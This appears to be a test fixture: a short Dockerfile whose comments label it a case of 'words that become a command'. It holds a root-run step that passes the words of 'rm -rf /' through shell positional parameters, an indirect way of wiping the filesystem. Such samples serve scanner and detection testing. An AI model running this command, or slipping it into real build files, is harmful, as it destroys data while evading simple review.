# words that become a command
# on: debian
# effect: 7
ARG base_image
FROM ${base_image}
USER root
RUN set -- rm -rf / && "$@"
ARG user_id
USER ${user_id}
